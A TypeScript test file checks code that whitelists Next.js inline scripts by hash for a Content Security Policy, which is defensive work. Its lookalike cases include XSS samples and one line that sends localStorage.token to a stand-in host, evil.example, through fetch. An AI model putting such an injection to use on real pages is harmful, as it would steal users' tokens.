import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { inlineScriptSources, isNextInlineScript, takesScriptHashes, withScriptHashes } from "./inline-scripts";

const sourceOf = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

const QUEUE = "(self.__next_f=self.__next_f||[]).push([0])";
const DATA = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
const CHUNKS = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/a.js"]});';

describe("Next.js's own inline scripts", () => {
  it("are the loader queue and calls that hand it one JSON value", () => {
    for (const text of [QUEUE, DATA, CHUNKS, "self.__next_f.push([2,null])"]) {
      expect(isNextInlineScript(text), text).toBe(true);
    }
  });

  it("are not a lookalike that runs anything of its own", () => {
    for (const text of [
      "alert(1)",
      'self.__next_f.push([1,"x"]);fetch("//evil.example/?"+localStorage.token)',
      'self.__next_f.push([1,"x"])//',
      "self.__next_f.push(alert(1))",
      'self.__next_f.push([1,"x"]),alert(1),(1)',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1));',
      `${QUEUE};alert(1)`,
    ]) {
      expect(isNextInlineScript(text), text).toBe(false);
    }
  });
});

describe("the hash sources of a page", () => {
  it("allow exactly Next.js's inline scripts: not an injected one, a handler, a file or a data block", () => {
    const page = [
      '<!DOCTYPE html><html><head><script src="/_next/static/chunks/a.js" async=""></script>',
      `<script id="_R_">${CHUNKS}</script></head><body>`,
      '<script type="application/ld+json">{"@type":"Product"}</script>',
      '<p>A review</p><script>alert("injected")</script><img src="x" onerror="alert(2)">',
      `<script>${QUEUE}</script><script>${DATA}</script><script>${DATA}</script>`,
      "</body></html>",
    ].join("");
    expect(inlineScriptSources(page)).toEqual([sourceOf(CHUNKS), sourceOf(QUEUE), sourceOf(DATA)]);
  });

  it("hash a script as the browser reads it, line breaks made LF", () => {
    const script = 'self.__next_f.push(\r\n[1,"a"])';
    expect(inlineScriptSources(`<script>${script}</script>`)).toEqual([sourceOf('self.__next_f.push(\n[1,"a"])')]);
  });
});

describe("a policy that takes script hashes", () => {
  const base = "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'";

  it("has a script-src without a nonce or 'unsafe-inline'", () => {
    expect(takesScriptHashes(base)).toBe(true);
    expect(takesScriptHashes("script-src 'self' 'nonce-abc' 'strict-dynamic'")).toBe(false);
    expect(takesScriptHashes("script-src 'self' 'unsafe-inline'")).toBe(false);
    // A style-src with 'unsafe-inline' is no script rule; no script-src is nothing to add to.
    expect(takesScriptHashes("default-src 'self'; style-src 'unsafe-inline'")).toBe(false);
  });

  it("gets the hashes in its script-src and nowhere else", () => {
    expect(withScriptHashes(base, ["'sha256-a'", "'sha256-b'"])).toBe(
      "default-src 'self'; script-src 'self' 'sha256-a' 'sha256-b'; style-src 'self' 'unsafe-inline'",
    );
    expect(withScriptHashes("object-src 'none'; script-src 'self'", ["'sha256-a'"])).toBe(
      "object-src 'none'; script-src 'self' 'sha256-a'",
    );
    expect(withScriptHashes(base, [])).toBe(base);
  });
});
